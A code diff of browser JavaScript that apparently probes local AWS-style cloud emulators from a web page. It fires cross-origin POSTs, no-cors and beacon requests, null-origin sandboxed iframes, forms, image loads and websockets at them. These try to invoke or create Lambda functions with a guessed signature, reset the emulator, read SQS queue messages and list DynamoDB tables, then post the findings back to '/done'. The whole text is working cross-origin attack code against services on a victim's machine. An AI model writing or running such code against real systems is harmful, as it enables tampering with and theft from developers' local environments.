@@ -28,7 +28,8 @@ const key = JSON.stringify({ tenant_id: tenant, scopes: ["infer", "telemetry", "
 const made = JSON.stringify({ FunctionName: tenant, Runtime: "python3.11", Handler: "x.y", Role: "arn:aws:iam::000000000000:role/x",
                               Code: { ZipFile: "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==" } });
 const guessed = "AWS4-HMAC-SHA256 Credential=000000000000/20261127/us-east-1/lambda/aws4_request, SignedHeaders=host, Signature=00";
-const soon = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 3000))]);
+// An answer that the browser takes for a download ends no frame.
+const soon = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 5000))]);
 
 async function read(what, url, init) {
   try {
@@ -61,27 +62,32 @@ function nameless(url, body) { // the page in such a frame has the origin `null`
   frame.sandbox = "allow-scripts";
   frame.srcdoc = `<script>fetch(${JSON.stringify(url)}, { method: "POST", mode: "no-cors", body: ${JSON.stringify(body)} })
     .finally(() => parent.postMessage("", "*"))</` + "script>";
-  return new Promise((done) => { addEventListener("message", done); document.body.append(frame); });
+  return new Promise((done) => {
+    addEventListener("message", (said) => said.source === frame.contentWindow && done());
+    document.body.append(frame);
+  });
 }
 
+const tried = [];
 for (const cloud of clouds) {
   for (const [path, body] of [[invoke, key], ["/2015-03-31/functions", made], ["/_ministack/reset", ""], ["//" + invoke, key]]) {
-    await read("plain POST", cloud + path, { method: "POST", body });
-    await read("POST no-cors", cloud + path, { method: "POST", mode: "no-cors", body });
-    await read("JSON", cloud + path, { method: "POST", body, headers: { "Content-Type": "application/json" } });
-    await read("signed by guess", cloud + path, { method: "POST", body, headers: { Authorization: guessed } });
+    tried.push(read("plain POST", cloud + path, { method: "POST", body }));
+    tried.push(read("POST no-cors", cloud + path, { method: "POST", mode: "no-cors", body }));
+    tried.push(read("JSON", cloud + path, { method: "POST", body, headers: { "Content-Type": "application/json" } }));
+    tried.push(read("signed by guess", cloud + path, { method: "POST", body, headers: { Authorization: guessed } }));
     navigator.sendBeacon(cloud + path, body);
-    await soon(nameless(cloud + path, body));
-    if (body) await soon(form(cloud + path, body));
+    tried.push(soon(nameless(cloud + path, body)));
+    if (body) tried.push(soon(form(cloud + path, body)));
   }
   for (const path of ["/", "/_ministack/health", "/_ministack/sqs/messages", "/rlaas-local-artifacts-000000000000-us-east-1"]) {
-    await read("GET", cloud + path);
-    await read("target", cloud + path, { method: "POST", body: "{}", headers: { "X-Amz-Target": "DynamoDB_20120810.ListTables" } });
+    tried.push(read("GET", cloud + path));
+    tried.push(read("target", cloud + path, { method: "POST", body: "{}", headers: { "X-Amz-Target": "DynamoDB_20120810.ListTables" } }));
     const image = new Image();
-    await soon(new Promise((done) => { image.onload = image.onerror = done; image.src = cloud + path; }));
+    tried.push(soon(new Promise((done) => { image.onload = image.onerror = done; image.src = cloud + path; })));
   }
-  await soon(socket(cloud.replace("http", "ws") + "/_aws/execute-api/x/y"));
+  tried.push(soon(socket(cloud.replace("http", "ws") + "/_aws/execute-api/x/y")));
 }
+await Promise.all(tried);
 const answer = await fetch(`${api}/v1/feedback.submit`, { method: "POST", body: "{}", headers: { Authorization: "Bearer none" } })
   .catch(() => ({ status: "nothing" }));
 await fetch("/done", { method: "POST", body: JSON.stringify({ readable, opened, api: answer.status }) });
